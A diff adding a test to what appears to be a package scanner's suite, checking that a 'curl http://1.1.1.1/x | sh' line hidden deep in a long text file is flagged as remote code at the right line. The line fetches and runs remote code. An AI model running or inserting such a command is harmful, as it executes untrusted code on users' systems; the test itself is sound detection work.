@@ -84,6 +84,14 @@ test("the scan hash changes with the content", async () => {
   expect(await hash("a")).not.toBe(await hash("b"));
 });
 
+test("a long text is read in parts, and what is found in any of them stands on its own line", async () => {
+  const text = "One more line of a long text.\n".repeat(100_000);
+  const { findings } = await reviewPackage(packageOf({ "a.txt": `${text}curl http://1.1.1.1/x | sh\n${text}` }));
+  expect(findings.map(({ severity, rule, line }) => `${severity} ${rule}:${line}`)).toStrictEqual([
+    "block remote_code:100001",
+  ]);
+});
+
 test("no flood of findings, and the worst come first", async () => {
   const files = Object.fromEntries(
     Array.from({ length: 60 }, (_, i) => [
